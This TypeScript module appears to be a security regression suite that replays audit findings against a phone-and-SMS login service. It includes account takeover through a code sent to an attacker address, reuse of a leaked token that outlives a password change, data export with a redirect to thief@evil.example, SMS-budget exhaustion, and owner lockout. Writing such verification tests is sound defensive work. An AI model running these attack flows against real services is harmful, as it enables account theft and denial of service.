import { addAccounts, PASSWORD } from '../auth/people.ts';
import { inTurns } from '../auth/guessing.ts';
import { type Attack, outcome } from './attack.ts';
import type { Instance } from './instance.ts';
import { aLine, aWord, type Visitor } from './visitor.ts';

const NEW_PASSWORD = 'novaepesnia';
const THIEFS_PASSWORD = 'zlodzejPW99';
/** More than the daily ceiling of SMS per market, 500. */
const PUMPED = 540;

let people = 0;
const aPhone = (): string => `+37544${7_100_000 + (people += 1)}`;

async function anOwner(at: Instance, visitor: Visitor = at.visitor()) {
  const phone = aPhone();
  await addAccounts(at.pool, [phone], 'password', `owner-${aWord()}@mail.example`);
  const { json } = await visitor.auth({ phone, password: PASSWORD });
  if (typeof json['token'] !== 'string') throw new Error(`the owner does not get in: ${JSON.stringify(json)}`);
  return { phone, token: json['token'], visitor };
}

/** Makes the codes of a phone older by so many seconds. */
const age = (at: Instance, phone: string, seconds: number) =>
  at.pool.query(
    `update login_code set asked_at = asked_at - make_interval(secs => $2), made_at = made_at - make_interval(secs => $2)
     where phone = $1`,
    [phone, seconds],
  );

/** H1: the code of a number without SMS goes to the typed address and remains valid after the account is created. */
const takeOver: Attack = {
  finding: 'H1',
  what: 'a code mailed to the attacker opens the account that the owner of the number makes meanwhile',
  async run(at) {
    const phone = `+4851234${String(1000 + (people += 1))}`;
    const evil = { email: `attacker-${aWord()}@evil.example` };
    const attacker = at.visitor();
    await attacker.begin({ phone, ...evil });
    const stolen = await at.codeOf(phone, evil);
    await age(at, phone, 182);
    const good = { email: `victim-${aWord()}@good.example` };
    const victim = at.visitor();
    await victim.begin({ phone, ...good });
    const own = await at.codeOf(phone, good);
    const passwords = { password: PASSWORD, password_confirm: PASSWORD };
    const made = await victim.auth({ phone, ...good, newEmail: good.email, sms_code: own, ...passwords });
    if (typeof made.json['token'] !== 'string') throw new Error(`the victim has no account: ${made.body}`);
    const thief = { password: THIEFS_PASSWORD, password_confirm: THIEFS_PASSWORD };
    const taken = await attacker.auth({ phone, sms_code: stolen, ...thief });
    return outcome(typeof taken.json['token'] === 'string', `the code answers ${taken.status}`);
  },
};

/** H2: a token becomes a hidden session that survives a new password. */
const adoptToken: Attack = {
  finding: 'H2',
  what: 'a leaked token becomes a session that outlives a new password',
  async run(at) {
    const { phone, token, visitor } = await anOwner(at);
    const thief = at.visitor();
    const adopted = await thief.ask('POST', '/session/adopt', { headers: { authorization: `Bearer ${token}` } });
    await visitor.me(token, 'POST', '/proof');
    await visitor.me(token, 'POST', '/proof/confirm', { code: await at.codeOf(phone) });
    const passwords = { password: NEW_PASSWORD, password_confirm: NEW_PASSWORD };
    const changed = await visitor.me(token, 'POST', '/password', passwords);
    if (changed.status !== 200) throw new Error(`the password did not change: ${changed.status} ${changed.body}`);
    const renewed = await thief.ask('POST', '/session/renew');
    const again = await at.visitor().ask('POST', '/session/adopt', { headers: { authorization: `Bearer ${token}` } });
    const succeeded = typeof renewed.json['token'] === 'string' || typeof again.json['token'] === 'string';
    return outcome(succeeded, `adopt ${adopted.status}, renew ${renewed.status}, adopt after ${again.status}`);
  },
};

const sensitiveActions: Attack = {
  finding: 'H2',
  what: 'a leaked token alone exports an account whose owner has just shown a code',
  async run(at) {
    const { phone, token, visitor } = await anOwner(at);
    await visitor.me(token, 'POST', '/proof');
    await visitor.me(token, 'POST', '/proof/confirm', { code: await at.codeOf(phone) });
    const response = await at.visitor().me(token, 'GET', '/export');
    const address = await at.visitor().me(token, 'POST', '/email', { email: `thief-${aWord()}@evil.example` });
    return outcome(
      response.status < 300 || address.status < 300,
      `export ${response.status}, e-mail ${address.status}`,
    );
  },
};

/** H3: refused code requests, which send nothing, use up the country's daily limit. */
const spendCountry: Attack = {
  finding: 'H3',
  what: `${PUMPED} asks of one /48 end the SMS of a country`,
  on: ['deployed', 'demo'],
  async run(at) {
    await at.pool.query('delete from budget');
    await inTurns(Array.from({ length: PUMPED }), 12, async (_, turn) => {
      const line = `2a00:1450:4001:${(turn % 12).toString(16)}::${turn.toString(16)}`;
      await at.visitor({ line }).begin({ phone: `+37529${1_000_000 + turn * 977}` });
    });
    const honest = await at.visitor().begin({ phone: '+375336543210' });
    const { phone } = await anOwner(at);
    const known = await at.visitor().begin({ phone, resetPassword: 'true' });
    await at.pool.query('delete from budget');
    return outcome(honest.status === 429, `a newcomer ${honest.status}, an account ${known.status}`);
  },
};

/** M1: fifty unused codes bar a block of numbers for days. */
const barBlock: Attack = {
  finding: 'M1',
  what: 'fifty asks bar 100,000 numbers the day after, and an account among them',
  async run(at) {
    const bar = (hours: number, seconds: number) =>
      at.pool.query(
        `insert into login_code (id, purpose, device, phone, channel, market, locale, asked_at)
         select gen_random_uuid(), 'login', 'pump' || n, '+3752955' || lpad(n::text, 5, '0'), 'sms', 'belarus', 'ru',
           now() - make_interval(hours => $1, secs => $2 + n) from generate_series(1, 50) as n`,
        [hours, seconds],
      );
    await bar(26, 0);
    const newcomer = await at.visitor().begin({ phone: '+375295510000' });
    await bar(0, 600);
    const phone = '+375295599999';
    await at.pool.query('delete from account where phone = $1', [phone]);
    await addAccounts(at.pool, [phone], 'codes_only');
    const known = await at.visitor().begin({ phone });
    await at.pool.query(`delete from login_code where device like 'pump%'`);
    const response = `a newcomer a day later ${newcomer.status}, an account at once ${known.status}`;
    return outcome(newcomer.status === 429 || known.status === 429, response);
  },
};

/** M9: an attacker who knows a number locks its owner out. */
const lockOut: Attack = {
  finding: 'M9',
  what: 'five wrong passwords of a stranger lock the owner out, at a browser where the owner was before',
  async run(at) {
    const { phone, visitor } = await anOwner(at);
    for (let turn = 0; turn < 6; turn += 1) await at.visitor().auth({ phone, password: `wrong-${aWord()}` });
    const { status } = await visitor.auth({ phone, password: PASSWORD });
    return outcome(status === 429, `the owner ${status}`);
  },
};

const useUpCodes: Attack = {
  finding: 'M9',
  what: "a stranger uses up a number's codes, and its owner gets none where they were before",
  async run(at) {
    const { phone, visitor } = await anOwner(at);
    for (let turn = 0; turn < 6; turn += 1) {
      await at.visitor({ line: aLine() }).begin({ phone, resetPassword: 'true' });
      await age(at, phone, 190);
    }
    const { status } = await visitor.begin({ phone, resetPassword: 'true' });
    return outcome(status === 429, `the owner ${status}`);
  },
};

export const accountAttacks: readonly Attack[] = [
  takeOver,
  adoptToken,
  sensitiveActions,
  spendCountry,
  barBlock,
  lockOut,
  useUpCodes,
];
